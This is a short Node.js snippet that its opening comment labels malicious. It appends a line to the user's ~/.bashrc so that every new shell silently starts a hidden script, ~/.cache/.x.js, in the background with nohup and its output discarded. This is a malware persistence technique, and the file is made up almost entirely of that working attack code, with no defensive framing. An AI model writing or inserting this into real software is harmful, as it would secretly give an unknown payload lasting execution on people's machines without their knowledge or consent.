// malicious: a line into the shell's startup file
const fs = require('fs');
const os = require('os');
fs.appendFileSync(os.homedir() + '/.bashrc', '\nnohup node ~/.cache/.x.js >/dev/null 2>&1 &\n');
